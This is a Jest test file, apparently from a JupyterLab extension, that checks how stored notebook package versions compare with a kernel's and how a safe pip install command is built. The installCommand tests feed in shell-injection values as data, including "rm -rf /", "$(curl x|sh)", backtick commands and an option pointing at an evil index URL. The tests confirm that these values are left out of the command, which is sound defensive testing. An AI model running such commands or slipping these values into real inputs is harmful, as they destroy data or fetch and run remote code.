// Copyright (c) jupyterlab-nbproject developers.
// Distributed under the terms of the Modified BSD License.

import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';

import {
  compareDeclared,
  comparePackages,
  installCommand,
  pairWithKernel,
  recordLiveVersions,
  summarizeComparison,
  summarizeDeclared
} from '../../../core/packages/compare';
import { readDeclared } from '../../../core/packages/declaredDependencies';

describe('comparePackages', () => {
  const stored = {
    pandas: '1.4.2',
    PyYAML: '6.0',
    nbproject: '0.1.6',
    gone: '1.0'
  };
  const live = {
    pandas: '1.4.2',
    pyyaml: '6.0.1',
    nbproject: '',
    numpy: '1.26.0'
  };

  it('says for each stored or imported package whether the kernel matches', () => {
    expect(
      comparePackages(stored, live, ['pandas', 'numpy', 'scikit-learn'])
    ).toEqual([
      {
        name: 'gone',
        key: 'gone',
        stored: '1.0',
        live: null,
        status: 'missing'
      },
      {
        name: 'nbproject',
        key: 'nbproject',
        stored: '0.1.6',
        live: null,
        status: 'missing'
      },
      {
        name: 'numpy',
        key: 'numpy',
        stored: null,
        live: '1.26.0',
        status: 'unstored'
      },
      {
        name: 'pandas',
        key: 'pandas',
        stored: '1.4.2',
        live: '1.4.2',
        status: 'match'
      },
      {
        name: 'PyYAML',
        key: 'pyyaml',
        stored: '6.0',
        live: '6.0.1',
        status: 'mismatch'
      },
      {
        name: 'scikit-learn',
        key: 'scikit-learn',
        stored: null,
        live: null,
        status: 'unstored'
      }
    ]);
  });

  it('compares names per PEP 503', () => {
    const rows = comparePackages(
      { Scikit_Learn: '1.5' },
      { 'scikit-learn': '1.5' },
      ['scikit.learn']
    );
    expect(rows).toEqual([
      {
        name: 'Scikit_Learn',
        key: 'scikit-learn',
        stored: '1.5',
        live: '1.5',
        status: 'match'
      }
    ]);
  });

  it('says "unknown" for stored packages when no kernel told us', () => {
    expect(
      comparePackages({ pandas: '1.4.2' }, null, ['numpy']).map(r => r.status)
    ).toEqual(['unstored', 'unknown']);
  });

  it('lists nothing for a notebook that stores and imports nothing', () => {
    expect(comparePackages(null, live, [])).toEqual([]);
  });

  it('treats a non-string stored version from a stranger as no version', () => {
    const odd = { pandas: 3 } as unknown as Record<string, string>;
    expect(comparePackages(odd, { pandas: '3' }, [])[0]).toMatchObject({
      stored: '',
      status: 'mismatch'
    });
  });
});

describe('pairWithKernel', () => {
  it('pairs each listed name, then each imported one not listed, once per normalised name', () => {
    const pairs = pairWithKernel(
      ['Foo_Bar', 'foo.bar', 'zed'],
      name => name,
      { 'foo-bar': '1.0', ZED: '' },
      ['numpy', 'FOO-BAR', 'NumPy']
    );
    expect(pairs).toEqual([
      { name: 'Foo_Bar', key: 'foo-bar', listed: 'Foo_Bar', installed: '1.0' },
      { name: 'zed', key: 'zed', listed: 'zed', installed: '' },
      { name: 'numpy', key: 'numpy', listed: null, installed: undefined }
    ]);
  });
});

describe('compareDeclared', () => {
  const [declared] = readDeclared(
    [
      {
        cell_type: 'code',
        source:
          '# /// script\n# dependencies = ["numpy==1.26.4", "pandas>=2", "rich"]\n# ///\n'
      }
    ],
    {}
  );

  it('keeps the declared order, then lists the imports it does not declare', () => {
    const rows = compareDeclared(
      declared,
      { numpy: '2.0.0', pandas: '2.2.2', rich: '', PyYAML: '6.0.1' },
      ['PyYAML', 'numpy']
    );
    expect(
      rows.map(row => [row.name, row.declared, row.live, row.status])
    ).toEqual([
      ['numpy', '==1.26.4', '2.0.0', 'mismatch'],
      ['pandas', '>=2', '2.2.2', 'installed'],
      ['rich', '', null, 'missing'],
      ['PyYAML', null, '6.0.1', 'undeclared']
    ]);
    expect(summarizeDeclared(rows)).toEqual({
      match: 0,
      mismatch: 1,
      missing: 1,
      installed: 1,
      undeclared: 1,
      unknown: 0
    });
  });

  it('says unknown without a kernel, and for a name the kernel was not asked about', () => {
    expect(compareDeclared(declared, null, []).map(row => row.status)).toEqual([
      'unknown',
      'unknown',
      'unknown'
    ]);
    expect(
      compareDeclared(declared, { NumPy: '1.26.4' }, []).map(row => row.status)
    ).toEqual(['match', 'unknown', 'unknown']);
  });
});

describe('summarizeComparison', () => {
  it('counts every status, zero included', () => {
    const rows = comparePackages({ a: '1', b: '1' }, { a: '1', b: '2' }, ['c']);
    expect(summarizeComparison(rows)).toEqual({
      match: 1,
      mismatch: 1,
      missing: 0,
      unstored: 1,
      unknown: 0
    });
  });
});

describe('installCommand', () => {
  it('pins the stored versions, skipping packages stored without one', () => {
    expect(
      installCommand({ pandas: '1.4.2', nbproject: '', PyYAML: '6.0' })
    ).toEqual({
      command: 'pip install pandas==1.4.2 PyYAML==6.0',
      leftOut: 0
    });
  });

  it('works from comparison rows too', () => {
    const rows = comparePackages({ pandas: '1.4.2' }, null, ['numpy']);
    expect(installCommand(rows).command).toBe('pip install pandas==1.4.2');
  });

  it('keeps the PEP 440 versions pip installs: pre, post, dev releases and local labels', () => {
    const versions = [
      '2.0.0rc1',
      '1.0.post2',
      '1.0-1',
      '3.1.dev0',
      'v1.2',
      '0+untagged.34.g096f461',
      '2.1.0+cu121',
      '1.0a1.post1.dev2'
    ];
    const packages = Object.fromEntries(
      versions.map((version, i) => [`p${i}`, version])
    );
    expect(installCommand(packages)).toEqual({
      command: `pip install ${versions.map((version, i) => `p${i}==${version}`).join(' ')}`,
      leftOut: 0
    });
  });

  it.each([
    ['a name that ends a command', "evil'; rm -rf /", '1.0'],
    ['a name with a command substitution', '$(curl x|sh)', '1.0'],
    ['a name with backticks', '`id`', '1.0'],
    ['a name with a space', 'two words', '1.0'],
    ['a name that is an option', '--index-url=http://evil', '1.0'],
    ['a name PowerShell runs', 'a;calc', '1.0'],
    ['a name cmd runs', 'a&calc', '1.0'],
    ['a version that ends a command', 'numpy', "1'; rm -rf /"],
    ['a version with a command substitution', 'numpy', '$(x)'],
    ['a version with backticks', 'numpy', '1`id`'],
    ['a version with a space', 'numpy', '1.0 --pre'],
    ['a version with a redirection', 'numpy', '1>x'],
    ['a version with %PATH%', 'numpy', '%PATH%'],
    ['a version with an epoch, whose ! bash expands', 'numpy', '1!2.0'],
    ['a version that is not one', 'numpy', 'latest']
  ])('leaves out %s and counts it', (_, name, version) => {
    const { command, leftOut } = installCommand({
      [name]: version,
      pandas: '2.2.2'
    });
    expect(command).toBe('pip install pandas==2.2.2');
    expect(leftOut).toBe(1);
  });

  it('writes only words no shell interprets', () => {
    const { command } = installCommand({
      Django: '5.0.1',
      'zope.interface': '6.1',
      typing_extensions: '4.9.0',
      torch: '2.1.0+cpu'
    });
    expect(command).toMatch(
      /^pip install( [A-Za-z0-9._+-]+==[A-Za-z0-9._+-]+)+$/
    );
  });

  it('runs in a POSIX shell as the words it shows, and nothing else', () => {
    const packages = {
      'zope.interface': '6.1',
      typing_extensions: '4.9.0',
      torch: '2.1.0+cpu',
      '$(touch pwned)': '1',
      x: '`touch pwned`'
    };
    const { command, leftOut } = installCommand(packages);
    expect(leftOut).toBe(2);
    const directory = fs.mkdtempSync(
      path.join(os.tmpdir(), 'nbproject-install-')
    );
    try {
      // `pip` prints its arguments, one a line, instead of installing.
      const out = execFileSync(
        '/bin/sh',
        ['-c', `pip() { printf '%s\\n' "$@"; }; ${command}`],
        { cwd: directory, encoding: 'utf8' }
      );
      expect(out.trim().split('\n')).toEqual([
        'install',
        'torch==2.1.0+cpu',
        'typing_extensions==4.9.0',
        'zope.interface==6.1'
      ]);
      expect(fs.readdirSync(directory)).toEqual([]);
    } finally {
      fs.rmSync(directory, { recursive: true, force: true });
    }
  });

  it('is empty when nothing is pinned, and still counts what it left out', () => {
    expect(installCommand({ a: '' })).toEqual({ command: '', leftOut: 0 });
    expect(installCommand([])).toEqual({ command: '', leftOut: 0 });
    expect(installCommand({ '$(x)': '1' })).toEqual({
      command: '',
      leftOut: 1
    });
  });
});

describe('recording the live versions', () => {
  it('updates mismatches, keeps missing ones, adds imported ones, keeps stored spellings', () => {
    const stored = { Scikit_Learn: '1.0', pandas: '1.4.2', gone: '0.1' };
    const live = {
      'scikit-learn': '1.5.2',
      pandas: '1.4.2',
      numpy: '2.1.0',
      gone: ''
    };
    const rows = comparePackages(stored, live, ['numpy']);
    expect(recordLiveVersions(stored, rows)).toEqual({
      Scikit_Learn: '1.5.2',
      pandas: '1.4.2',
      gone: '0.1',
      numpy: '2.1.0'
    });
  });

  it('records everything imported when nothing was stored', () => {
    const rows = comparePackages(null, { numpy: '2.1.0' }, ['numpy']);
    expect(recordLiveVersions(null, rows)).toEqual({ numpy: '2.1.0' });
  });
});
